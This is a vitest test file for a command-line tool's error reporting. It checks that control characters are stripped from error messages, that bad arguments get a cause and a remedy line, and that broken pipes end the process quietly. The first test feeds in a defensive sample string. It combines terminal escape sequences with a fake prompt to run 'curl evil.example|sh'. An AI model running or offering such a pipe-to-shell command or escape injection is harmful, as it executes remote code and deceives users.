import { afterEach, expect, it, vi } from 'vitest';
import { endWithReader, failureOf, reportFailure } from '../src/cli/terminal/failure.ts';
import { writtenTo } from '../src/cli/terminal/output.fixture.ts';
import { OutriderError } from '../src/core/basics/errors.ts';
import { createCloneProgram } from './clone-program.ts';

afterEach(() => vi.restoreAllMocks());

it('shows what an edge says of a failure without its control characters', () => {
  const said = writtenTo(process.stderr);
  const evil = '\u001b]0;owned\u0007\u001b[2JYour key has expired: run\r\ncurl evil.example|sh';
  expect(reportFailure(new OutriderError('unauthorized', evil, evil))).toBe(1);
  reportFailure(new Error(evil));
  const text = said();
  expect(text).not.toContain('\u001b]');
  expect(text).not.toContain('\u001b[2J');
  for (const control of ['\u0007', '\r']) expect(text).not.toContain(control);
  expect(text.split('\n')[0]).toMatch(/owned.*Your key has expired: run curl/);
});

it.each([
  [['simulate', '--objective', 'latency'], /argument 'latency' is invalid$/, /^Allowed choices are felt, paper\.$/],
  [['simulate', '--seeds', '0'], /argument '0' is invalid$/, /^Give a number from 1 to 10000\.$/],
  [['simulate', '--objectiv', 'felt'], /^unknown option '--objectiv'$/, /^Did you mean --objective\?$/],
  [['bench', 'learned'], /^required option '--weights <directory>' not specified$/, /--help shows/],
  [['simulate', '--slots', '1', '--slots', '2'], /given twice; give it once$/, /--help shows/],
])(
  'tells a wrong command line %j in one line of cause and one of remedy, with a code',
  async (words, cause, remedy) => {
    const said = writtenTo(process.stderr);
    const program = await createCloneProgram();
    const error: unknown = await program.parseAsync(words, { from: 'user' }).catch((reason: unknown) => reason);
    expect(failureOf(error)).toMatchObject({ code: 'bad-argument', message: expect.stringMatching(cause) });
    expect(failureOf(error).remedy).toMatch(remedy);
    expect(reportFailure(error)).toBe(2);
    expect(said().split('\n')).toEqual([expect.stringMatching(/^\S* /), expect.stringContaining('[bad-argument]'), '']);
  },
);

it.each([
  ['EIO', 129],
  ['EPIPE', 141],
])('ends without a word when writing says %s', (code, status) => {
  const exit = vi.spyOn(process, 'exit').mockImplementation(() => undefined as never);
  const before = process.stdout.listeners('error');
  const beforeNotes = process.stderr.listeners('error');
  endWithReader();
  const added = process.stdout.listeners('error').filter((listener) => !before.includes(listener));
  const addedNotes = process.stderr.listeners('error').filter((listener) => !beforeNotes.includes(listener));
  expect(() => added[0]?.(Object.assign(new Error('write'), { code }))).toThrow();
  expect(exit).toHaveBeenCalledWith(status);
  for (const listener of added) process.stdout.off('error', listener as () => void);
  for (const listener of addedNotes) process.stderr.off('error', listener as () => void);
});
